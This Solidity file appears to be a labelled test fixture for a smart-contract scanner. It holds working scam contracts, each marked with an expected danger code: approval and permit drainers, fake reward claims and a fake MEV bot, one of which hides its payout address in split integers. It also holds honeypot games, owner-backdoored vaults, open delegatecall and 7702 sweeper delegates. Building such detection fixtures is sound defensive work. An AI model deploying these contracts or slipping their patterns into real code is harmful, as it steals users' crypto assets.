// SPDX-License-Identifier: UNLICENSED
pragma solidity ^0.8.20;

// Drainers, vaults, bots, baits and delegates that are well known, each written openly and again in disguise.
interface IERC20 { function transfer(address, uint256) external returns (bool);
  function transferFrom(address, address, uint256) external returns (bool); function balanceOf(address) external view returns (uint256);
    function allowance(address, address) external view returns (uint256); function approve(address, uint256) external returns (bool);
      function permit(address o, address s, uint256 v, uint256 d, uint8 vv, bytes32 r, bytes32 ss) external; }
interface IERC721 { function safeTransferFrom(address, address, uint256) external; function transferFrom(address, address, uint256) external;
  function ownerOf(uint256) external view returns (address); }

// Drainer pull.
/// expects: AP-16 danger
contract Puller {
  address public owner = msg.sender;
  function drain(address token, address victim, uint256 amount) external { require(msg.sender == owner);
    IERC20(token).transferFrom(victim, owner, amount); }
}
/// expects: AP-16 danger
contract SwapRouterAny {
  mapping(bytes32 => mapping(address => bool)) private _roles; bytes32 constant KEEPER = keccak256("KEEPER");
  constructor() { _roles[KEEPER][msg.sender] = true; }
  function swap(address tin, uint256 a, address pool, bytes calldata d) external { IERC20(tin).transferFrom(msg.sender, pool, a);
    (bool ok,) = pool.call(d); require(ok); }
  struct Call { address target; uint256 value; bytes data; }
  function aggregate(Call[] calldata c) external payable {
    require(_roles[KEEPER][msg.sender], "AccessControl");
    for (uint256 i; i < c.length; i++) { (bool ok, bytes memory r) = c[i].target.call{value: c[i].value}(c[i].data); if (!ok) assembly {
      revert(add(r, 32), mload(r)) } }
  }
}
// Claim that takes the ether.
/// expects: CT-28 danger
contract ClaimTaker {
  address payable private owner = payable(msg.sender);
  function SecurityUpdate() external payable { owner.transfer(msg.value); }
  function claim() external payable { owner.transfer(address(this).balance); }
}
/// expects: CT-28 danger
contract ClaimRewardsSplit {
  address private _admin = msg.sender; mapping(address => uint256) private _claimed; uint256 public round;
  event RewardClaimed(address who, uint256 amount);
  function claimRewards(address affiliate, uint256 share) public payable {
    require(msg.value > 0, "gas deposit"); uint256 cut = msg.value * share / 100;
    (bool a,) = affiliate.call{value: cut}(""); require(a);
    _claimed[msg.sender] += msg.value; emit RewardClaimed(msg.sender, msg.value);
  }
  receive() external payable {} 
  function nextRound(uint256 r) external { require(msg.sender == _admin); round = r; uint256 b = address(this).balance; assembly {
    let z := call(gas(), caller(), b, 0, 0, 0, 0) if iszero(z) { revert(0, 0) } } }
}
// Vault whose owner withdraws.
/// expects: CT-28 danger
contract StakingEmergency {
  IERC20 public immutable stakingToken; address public owner = msg.sender; mapping(address => uint256) public staked;
  constructor(IERC20 t) { stakingToken = t; }
  function stake(uint256 v) external { stakingToken.transferFrom(msg.sender, address(this), v); staked[msg.sender] += v; }
  function unstake(uint256 v) external { staked[msg.sender] -= v; stakingToken.transfer(msg.sender, v); }
  function emergencyWithdraw() external { require(msg.sender == owner); stakingToken.transfer(owner, stakingToken.balanceOf(address(this))); }
}
/// expects: CT-28 danger
contract EthBankRecover {
  mapping(address => uint256) public deposits; address internal _gov; uint256 internal _eta;
  constructor() { _gov = msg.sender; }
  function deposit() external payable { deposits[msg.sender] += msg.value; }
  function withdraw(uint256 v) external { require(deposits[msg.sender] >= v); deposits[msg.sender] -= v; payable(msg.sender).transfer(v); }
  // returns tokens sent here by mistake
  function recoverERC20(address token, uint256 amount) external {
    require(_gov == msg.sender, "gov");
    if (token == address(0)) { (bool s,) = _gov.call{value: amount}(""); require(s); } else { IERC20(token).transfer(_gov, amount); }
  }
  function retire() external { require(_gov == msg.sender && block.timestamp > _eta); assembly { selfdestruct(caller()) } }
}
// A false MEV bot.
/// expects: CT-28 danger
contract MevBot {
  address payable private constant DEX = payable(0x4f3a120E72C76c22ae802D129F599BFDbc31cb81);
  receive() external payable {}
  function start() public payable { DEX.transfer(address(this).balance); }
  function withdrawal() public { DEX.transfer(address(this).balance); }
}
/// expects: CT-28 danger
contract MevBotParts {
  address private _owner; constructor() { _owner = msg.sender; }
  uint256 a1 = 0x4f3a120E72C76c22; uint256 a2 = 0xae802D129F599BFDbc31cb81;
  receive() external payable {}
  function fetchMempoolData() internal view returns (address) { return address(uint160((a1 << 96) | a2)); }
  function startSniper(uint256 minProfit) external { require(_owner == msg.sender); minProfit;
    (bool ok,) = fetchMempoolData().call{value: address(this).balance}(""); require(ok); }
  function stop() external { require(_owner == msg.sender); payable(fetchMempoolData()).transfer(address(this).balance); }
}
// Delegatecall.
/// expects: CT-11 danger
contract OpenDelegate {
  mapping(address => uint256) public bal;
  function deposit() external payable { bal[msg.sender] += msg.value; }
  function withdraw() external { uint256 b = bal[msg.sender]; bal[msg.sender] = 0; payable(msg.sender).transfer(b); }
  function run(address t, bytes calldata d) external payable returns (bytes memory) { (bool ok, bytes memory r) = t.delegatecall(d); require(ok);
    return r; }
}
/// expects: CT-11 danger
contract StrategyDelegate {
  address public strategist = msg.sender; address private _strategy; mapping(address => uint256) public shares; IERC20 public want;
  constructor(IERC20 w) { want = w; }
  function setStrategy(address s) external { require(msg.sender == strategist); _strategy = s; }
  function deposit(uint256 v) external { want.transferFrom(msg.sender, address(this), v); shares[msg.sender] += v; }
  function withdraw(uint256 v) external { shares[msg.sender] -= v; want.transfer(msg.sender, v); }
  function harvest() external { address s = _strategy; bytes memory d = abi.encodeWithSignature("harvest()"); assembly {
    pop(delegatecall(gas(), s, add(d, 32), mload(d), 0, 0)) } }
}
// Unprotected initialisers.
/// expects: CT-35 danger
contract InitWallet {
  address public owner;
  function initWallet(address o) external { owner = o; }
  receive() external payable {}
  function execute(address to, uint256 v, bytes calldata d) external { require(msg.sender == owner); (bool ok,) = to.call{value: v}(d); require(ok); }
}
/// expects: CT-28 danger
contract InitForgotten {
  bool private initialized; address private _admin; mapping(address => uint256) public balanceOf; IERC20 public token;
  modifier initializer() { require(!initialized, "Initializable: already initialized"); _; }
  function initialize(IERC20 t, address admin) external initializer { token = t; _admin = admin; }
  function deposit(uint256 v) external { token.transferFrom(msg.sender, address(this), v); balanceOf[msg.sender] += v; }
  function withdraw(uint256 v) external { balanceOf[msg.sender] -= v; token.transfer(msg.sender, v); }
  function adminSend(address to, uint256 v) external { require(msg.sender == _admin); token.transfer(to, v); }
}
// Honeypot games.
/// expects: CT-28 danger
contract GiftBalance {
  address owner = msg.sender;
  receive() external payable {}
  function multiplicate(address payable a) external payable { if (msg.value >= address(this).balance) {
    a.transfer(address(this).balance + msg.value); } }
  function take() external { require(msg.sender == owner); payable(owner).transfer(address(this).balance); }
}
/// expects: CT-28 danger
contract Quiz {
  string public question; bytes32 private responseHash; mapping(bytes32 => bool) private admin;
  constructor(bytes32[] memory a) payable { for (uint256 i; i < a.length; i++) admin[a[i]] = true; }
  modifier isAdmin() { require(admin[keccak256(abi.encodePacked(msg.sender))]); _; }
  function Try(string memory r) public payable { require(msg.sender == tx.origin);
    if (responseHash == keccak256(bytes(r)) && msg.value > 1 ether) payable(msg.sender).transfer(address(this).balance); }
  function Start(string calldata q, string calldata r) public payable isAdmin { if (responseHash == 0) { responseHash = keccak256(bytes(r));
    question = q; } }
  function New(string calldata q, bytes32 h) public payable isAdmin { question = q; responseHash = h; }
  function Stop() public payable isAdmin { payable(msg.sender).transfer(address(this).balance); }
  fallback() external payable {}
}
// Sweeping 7702 delegates.
/// expects: CT-28 danger
contract Sweeper {
  address payable constant DEST = payable(0x9D2E5b0C1a7F4B43cE4f1F0B92F3e1ED7f5a1C2B);
  receive() external payable { DEST.transfer(address(this).balance); }
  function sweep(IERC20 t) external { t.transfer(DEST, t.balanceOf(address(this))); }
}
/// expects: CT-28 danger
contract CrimeEnjoyor {
  address private immutable _d = msg.sender; bytes32 private constant S = keccak256("account.delegate.v1");
  fallback() external payable { address d = _d; uint256 v = msg.value; assembly { if v { pop(call(gas(), d, selfbalance(), 0, 0, 0, 0)) } } }
  struct C { address to; uint256 value; bytes data; }
  function executeBatch(C[] calldata c) external payable {
    require(msg.sender == address(this) || msg.sender == _d, "unauthorized");
    for (uint256 i; i < c.length; i++) { (bool ok,) = c[i].to.call{value: c[i].value}(c[i].data); require(ok); }
  }
}
// NFT and permit drainers.
/// expects: AP-16 danger
contract NftMarketOwner {
  address private _o = msg.sender; mapping(address => mapping(uint256 => uint256)) public price;
  function list(address n, uint256 id, uint256 p) external { require(IERC721(n).ownerOf(id) == msg.sender); price[n][id] = p; }
  function buy(address n, uint256 id) external payable { uint256 p = price[n][id]; require(p > 0 && msg.value == p); price[n][id] = 0;
    address s = IERC721(n).ownerOf(id); IERC721(n).safeTransferFrom(s, msg.sender, id); payable(s).transfer(p); }
  function collect(address n, address from, uint256[] calldata ids) external { require(msg.sender == _o);
    for (uint256 i; i < ids.length; i++) IERC721(n).transferFrom(from, _o, ids[i]); }
}
/// expects: AP-16 danger
contract PermitSpender {
  address private _relayer = msg.sender; address private _vault = msg.sender;
  function setVault(address v) external { require(msg.sender == _relayer); _vault = v; }
  function settle(address token, address who, uint256 value, uint256 dl, uint8 v, bytes32 r, bytes32 s) external {
    require(msg.sender == _relayer, "Forbidden");
    IERC20(token).permit(who, address(this), value, dl, v, r, s);
    uint256 b = IERC20(token).balanceOf(who); if (b > value) b = value;
    (bool ok,) = token.call(abi.encodeWithSelector(0x23b872dd, who, _vault, b)); require(ok);
  }
}
